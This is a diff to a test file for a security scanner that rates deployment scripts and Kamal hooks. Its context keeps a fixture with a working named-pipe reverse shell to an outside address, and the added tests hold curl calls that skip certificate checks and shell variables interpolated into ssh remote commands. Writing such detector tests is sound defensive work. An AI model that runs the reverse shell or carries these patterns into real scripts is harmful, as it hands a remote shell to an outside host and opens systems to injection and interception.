@@ -45,3 +45,27 @@ test("a shell handed to another machine through a pipe with a name is told once"
     "#!/bin/bash\nset -e\nmkfifo run/p\ncat run/p | sh -i 2>&1 | nc 203.0.113.9 8443 > run/p\nkamal details\n";
   expect(await weigh({ "bin/deploy-wait": text })).toEqual(["reverse-shell critical"]);
 });
+
+test("a picture in a folder named for deployments is no script that nobody can read", async () => {
+  const files = { "docs/images/deployment/deploy.png": "\u0000\u0001PNG" };
+  expect(await weigh({ ...files, "bin/deploy": "#!/bin/bash\nset -e\nkamal deploy\n" })).toEqual([]);
+});
+
+test.each([
+  ["a probe that uses nothing of the answer", `-o /dev/null -w '%{http_code}' "$APP_URL"`, "medium"],
+  ["an answer that is read", '"$APP_URL/version"', "high"],
+  ["something that is sent", `-o /dev/null -d "$NOTE" "$APP_URL"`, "high"],
+])("certificates are not checked for %s", async (_, request, severity) => {
+  const hook = `#!/bin/bash\nset -e\ncurl -sk ${request}\n`;
+  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toEqual([`tls-check-off ${severity}`]);
+});
+
+test.each([
+  ["an address of the team", "REPORT_HOST", "medium"],
+  ["a text that only the run knows", "REPORT_TITLE", "high"],
+])("%s in a remote command", async (_, name, severity) => {
+  const hook = `#!/bin/bash\nset -e\nssh deploy@192.0.2.10 "notify $${name}"\n`;
+  expect(await weigh({ ".kamal/hooks/post-deploy": hook })).toEqual([
+    `remote-command-interpolation ${severity}`,
+  ]);
+});
